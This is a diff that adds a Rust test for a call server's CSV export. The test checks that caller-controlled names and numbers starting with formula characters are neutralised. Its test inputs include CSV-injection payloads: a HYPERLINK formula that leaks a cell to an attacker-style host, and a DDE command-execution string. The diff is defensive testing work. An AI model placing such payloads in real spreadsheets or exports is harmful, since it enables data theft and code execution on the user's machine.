@@ -214,7 +214,8 @@ async fn csv_export_round_trips_awkward_values() {
     assert_eq!(rows.len(), 3);
     for (row, name) in rows.iter().zip(names) {
         assert_eq!(&row[col("caller_name")], name);
-        assert_eq!(&row[col("from")], "+1, \"555\"");
+        // Starts with `+`: a spreadsheet would read it as a formula, so it is kept as text.
+        assert_eq!(&row[col("from")], "'+1, \"555\"");
     }
     // A date range that excludes today is empty; a bad date is a clear 400.
     let r =
@@ -223,6 +224,59 @@ async fn csv_export_round_trips_awkward_values() {
     assert_eq!(csv::Reader::from_reader(r.body.as_ref()).records().count(), 0);
     let r = admin(&server, Method::GET, "/api/v1/calls.csv?from=yesterday", &[("authorization", &auth)], "").await;
     assert_eq!(r.status, StatusCode::BAD_REQUEST);
+}
+
+#[tokio::test]
+async fn csv_export_neutralises_formulas_and_keeps_phone_numbers_text() {
+    let server = TestServer::start().await;
+    // What a caller controls (their caller ID name, or a spoofed From) must not become a
+    // formula in the owner's spreadsheet.
+    let evil = [
+        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")",
+        "+SUM(1,2)",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+2",
+        "\r=1+2",
+        " =1+2",
+    ];
+    for (i, name) in evil.iter().enumerate() {
+        let sid = format!("CA84{i:02}");
+        let p = [("CallSid", sid.as_str()), ("From", "+15035550123"), ("To", "+15035550100"), ("CallerName", name)];
+        assert_eq!(server.post_signed("/api/v1/webhooks/incoming-call", &p).await.status, StatusCode::OK);
+    }
+    let harmless = [("CA8490", "Bob's Garage"), ("CA8491", "Müller 2+2")];
+    for (sid, name) in harmless {
+        let p = [("CallSid", sid), ("From", "=cmd|' /C calc'!A0"), ("To", "+15035550100"), ("CallerName", name)];
+        assert_eq!(server.post_signed("/api/v1/webhooks/incoming-call", &p).await.status, StatusCode::OK);
+    }
+    let auth = format!("Bearer {ADMIN_TOKEN}");
+    let r = admin(&server, Method::GET, "/api/v1/calls.csv", &[("authorization", &auth)], "").await;
+    assert_eq!(r.status, StatusCode::OK);
+    let mut reader = csv::Reader::from_reader(r.body.as_ref());
+    let header: Vec<String> = reader.headers().unwrap().iter().map(str::to_owned).collect();
+    let col = |n: &str| header.iter().position(|h| h == n).unwrap();
+    let rows: BTreeMap<String, csv::StringRecord> =
+        reader.records().map(Result::unwrap).map(|r| (r[col("call_sid")].to_owned(), r)).collect();
+    assert_eq!(rows.len(), evil.len() + harmless.len());
+    for (i, name) in evil.iter().enumerate() {
+        let row = &rows[&format!("CA84{i:02}")];
+        assert_eq!(row[col("caller_name")], format!("'{name}"), "{name:?}");
+        // An E.164 number stays readable: text, not a formula and not 1.5E+10.
+        assert_eq!(&row[col("from")], "'+15035550123");
+        assert_eq!(&row[col("to")], "'+15035550100");
+    }
+    for (sid, name) in harmless {
+        assert_eq!(&rows[sid][col("caller_name")], name, "a name that is no formula is left alone");
+        assert_eq!(&rows[sid][col("from")], "'=cmd|' /C calc'!A0");
+    }
+    // No cell of the export starts with a character a spreadsheet acts on.
+    for row in rows.values() {
+        for cell in row {
+            let first = cell.trim_start_matches(' ').chars().next();
+            assert!(!matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r')), "{cell:?} in {row:?}");
+        }
+    }
 }
 
 /// A minimal valid WAV (8 kHz mono 16-bit) of `samples` samples.
